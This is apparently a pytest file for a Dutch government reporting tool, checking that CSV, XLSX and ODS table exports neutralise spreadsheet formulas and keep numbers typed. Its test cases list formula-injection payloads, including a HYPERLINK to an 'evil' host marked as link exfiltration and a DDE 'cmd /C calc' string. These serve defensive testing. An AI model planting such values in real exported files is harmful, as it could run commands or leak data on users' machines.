"""Table downloads (SPEC §6, §7): CSV, XLSX and ODS with a header row, no merged cells,
numbers as numbers, and no text that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from jbr.publish.tables import Table, csv_text, safe_cell, write_table

# (cell as published, what must reach the spreadsheet cell, why)
FORMULA_CASES = [
    ("=1+1", "'=1+1", "= starts a formula"),
    ('=HYPERLINK("http://evil","klik")', '\'=HYPERLINK("http://evil","klik")', "link exfiltration"),
    ("+31 70 123", "'+31 70 123", "+ starts a formula in Excel"),
    ("-2+3", "'-2+3", "- followed by an expression is a formula"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", "DDE payload behind a minus"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)", "@ starts a function in Lotus/Excel"),
    ("\t=1+1", "'\t=1+1", "leading tab (OWASP)"),
    ("\r=1+1", "'\r=1+1", "leading carriage return (OWASP)"),
    ("Ministerie van BZK", "Ministerie van BZK", "ordinary text unchanged"),
    ("a=b", "a=b", "= inside the text is harmless"),
    ("", "", "empty text stays empty"),
    ("-12.5", "-12.5", "text that is just a negative number is data, not a formula"),
    ("-3,2", "-3,2", "Dutch decimal comma, still just a number"),
    (-12.5, -12.5, "a negative NUMBER stays a number"),
    (-7, -7, "a negative integer stays a number"),
    (0.0, 0.0, "zero"),
    (True, True, "booleans unchanged"),
    (None, None, "unknown stays empty"),
    (float("nan"), None, "NaN is unknown: an empty cell"),
]


@pytest.mark.parametrize("given, expected, why", FORMULA_CASES)
def test_safe_cell(given, expected, why):
    assert safe_cell(given) == expected, why


def _table() -> Table:
    return Table(
        title="Test: [formules]?",
        columns=["naam", "waarde", "=kop"],
        rows=[[g, -12.5, e if isinstance(e, str) else "x"] for g, e, _ in FORMULA_CASES],
    )


def test_csv_cells_are_escaped_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(csv_text(_table()), newline="")))
    assert rows[0] == ["naam", "waarde", "'=kop"]
    for (_given, expected, why), row in zip(FORMULA_CASES, rows[1:], strict=True):
        if isinstance(expected, str):
            assert row[0] == expected, why
        assert not row[0].startswith(("=", "+", "@", "\t", "\r")), why
        assert row[1] == "-12.5"  # a negative number, unquoted and unescaped
    by_case = {str(g): row[0] for (g, _e, _w), row in zip(FORMULA_CASES, rows[1:], strict=True)}
    assert by_case["-12.5"] == "-12.5" and by_case["-7"] == "-7"
    assert by_case["True"] == "true" and by_case["None"] == "" and by_case["nan"] == ""


def test_xlsx_has_header_no_formulas_no_merged_cells(tmp_path):
    path = write_table(_table(), tmp_path / "t", ["xlsx"])[0]
    sheet = load_workbook(path).active
    assert sheet.title == "Test   formules"  # Excel forbids []?: in sheet names
    assert [c.value for c in sheet[1]] == ["naam", "waarde", "'=kop"]
    assert sheet.merged_cells.ranges == set()
    for (_given, expected, why), row in zip(FORMULA_CASES, sheet.iter_rows(min_row=2), strict=True):
        assert row[0].data_type != "f", why
        assert row[0].value == (expected if expected != "" else None), why
        assert row[1].value == -12.5 and row[1].data_type == "n"
    # and nowhere in the file is a formula element
    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_ods_has_header_typed_numbers_and_escaped_text(tmp_path):
    from odf.namespaces import TABLENS
    from odf.opendocument import load
    from odf.table import TableCell, TableRow

    path = write_table(_table(), tmp_path / "t", ["ods"])[0]
    doc = load(str(path))
    rows = doc.spreadsheet.getElementsByType(TableRow)
    header = [str(c) for c in rows[0].getElementsByType(TableCell)]
    assert header == ["naam", "waarde", "'=kop"]
    for (_given, expected, why), row in zip(FORMULA_CASES, rows[1:], strict=True):
        cells = row.getElementsByType(TableCell)
        assert cells[0].getAttrNS(TABLENS, "formula") is None, why
        if isinstance(expected, str):
            # XML reads a carriage return back as a line feed
            assert str(cells[0]) == expected.replace("\r", "\n"), why
        number = cells[1]
        assert number.getAttribute("valuetype") == "float"
        assert float(number.getAttribute("value")) == -12.5
    assert b"number-columns-spanned" not in zipfile.ZipFile(path).read("content.xml")


def test_report_tables_download_with_every_ministry_and_year(tmp_path):
    """The report's indicator tables as files: header, Rijk first, numbers, suppression mark."""
    from jbr.indicators import IndicatorValue
    from jbr.publish.figures import published_figures
    from jbr.publish.site.write import write_report_tables

    def v(year, ministry, value, persons):
        return IndicatorValue(
            "personnel.headcount", year, ministry, value, "personen", None, None, persons < 10,
            persons=persons,
        )  # fmt: skip

    values = {
        2023: [v(2023, "RIJK", 57, 57), v(2023, "BZK", 50, 50), v(2023, "AZ", 7, 7)],
        2024: [v(2024, "RIJK", 58, 58), v(2024, "BZK", 51, 51), v(2024, "AZ", 7, 7)],
    }
    files = write_report_tables(published_figures(values, 2024, "nl"), tmp_path)
    names = sorted(f.name for f in files)
    assert names == [f"personnel.headcount.{x}" for x in ("csv", "ods", "xlsx")]
    rows = list(
        csv.reader((tmp_path / "tabellen" / "personnel.headcount.csv").open(encoding="utf-8"))
    )
    assert rows == [
        ["code", "Ministerie", "2024", "2023"],
        ["RIJK", "Rijk", "58", "57"],
        ["AZ", "Algemene Zaken", "*", "*"],  # 7 persons: the mark, never the number
        ["BZK", "Binnenlandse Zaken en Koninkrijksrelaties", "51", "50"],
    ]
    sheet = load_workbook(tmp_path / "tabellen" / "personnel.headcount.xlsx").active
    assert [c.value for c in sheet[2]] == ["RIJK", "Rijk", 58, 57]
